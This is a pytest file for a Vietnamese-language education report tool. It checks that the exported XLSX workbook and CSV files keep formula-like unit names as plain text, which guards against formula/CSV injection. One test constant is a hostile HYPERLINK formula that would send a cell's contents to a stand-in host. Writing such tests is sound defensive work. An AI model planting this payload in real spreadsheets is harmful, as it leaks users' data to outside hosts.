"""The XLSX workbook and the CSVs keep text from the inputs as text: a roster's unit name that looks like a formula
is never run by a spreadsheet program (formula / CSV injection)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from hocvuso.reports.run import write_report

from .conftest import Runner, town_results, town_roster

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'


def written(runner: Runner, unit: str) -> Path:
    rows = town_roster()
    for r in rows[12:18]:  # the six learners of Xã Bình
        r[3] = unit
    report, diags = runner.run(runner.roster(rows), [runner.results(town_results())], min_cell=1)
    assert report is not None, [d.message("en") for d in diags]
    return write_report(report, runner.root / "build", "vi")


def test_a_unit_name_that_looks_like_a_formula_is_a_text_cell_in_the_workbook(runner: Runner) -> None:
    out = written(runner, HOSTILE)
    book = next(out.glob("*.xlsx"))
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    cells = [c for ws in load_workbook(book) for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and {c.data_type for c in cells} == {"s"}  # shown as the text the roster held, word for word


def test_a_unit_name_that_looks_like_a_formula_starts_with_a_quote_in_the_csv(runner: Runner) -> None:
    out = written(runner, HOSTILE)
    cells = [cell for path in sorted((out / "csv").glob("*.csv"))
             for row in csv.reader(path.open(encoding="utf-8-sig")) for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_numbers_stay_numbers_and_ordinary_names_are_untouched(runner: Runner) -> None:
    out = written(runner, "Xã Bình")
    book = load_workbook(next(out.glob("*.xlsx")))
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert "Xã Bình" in values and any(isinstance(v, int) and not isinstance(v, bool) for v in values)
    groups = list(csv.reader((out / "csv" / "groups.csv").open(encoding="utf-8-sig")))
    assert any(row[1] == "Xã Bình" for row in groups[1:])


def test_control_characters_from_a_damaged_roster_never_stop_the_workbook(runner: Runner) -> None:
    """No spreadsheet cell may hold them (openpyxl raised): the reader drops them, so the unit is 'Xã Bình' again."""
    out = written(runner, "Xã\x01 Bình\x00")
    values = [c.value for ws in load_workbook(next(out.glob("*.xlsx"))) for row in ws.iter_rows() for c in row]
    assert "Xã Bình" in values
